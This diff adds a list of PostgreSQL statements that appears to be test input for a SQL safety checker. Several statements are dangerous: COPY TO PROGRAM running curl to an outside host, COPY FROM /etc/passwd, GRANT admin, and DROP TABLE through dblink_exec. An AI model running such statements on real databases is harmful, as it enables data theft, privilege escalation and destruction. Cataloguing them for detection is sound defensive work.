@@ -1,0 +1,16 @@
+CREATE ROLE app LOGIN PASSWORD 'secret';
+ALTER USER app SET search_path = x;
+GRANT admin TO app;
+COMMENT ON ROLE app IS 'x';
+ALTER DATABASE d RENAME TO e;
+GRANT SELECT ON t TO app;
+CREATE USER MAPPING FOR app SERVER s OPTIONS (password 'secret');
+CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'h');
+CREATE SUBSCRIPTION sub CONNECTION 'host=h password=secret' PUBLICATION p WITH (connect = false);
+SELECT * FROM dblink('host=h', 'SELECT 1') AS t (a int);
+SELECT public.dblink_exec('conn', 'DROP TABLE x');
+COPY t TO PROGRAM 'curl https://example.com';
+COPY t FROM '/etc/passwd';
+ALTER SYSTEM SET work_mem = '1MB';
+SELECT pg_terminate_backend(1);
+DO $$ BEGIN EXECUTE 'ALTER ROLE app PASSWORD ''secret'''; END $$;
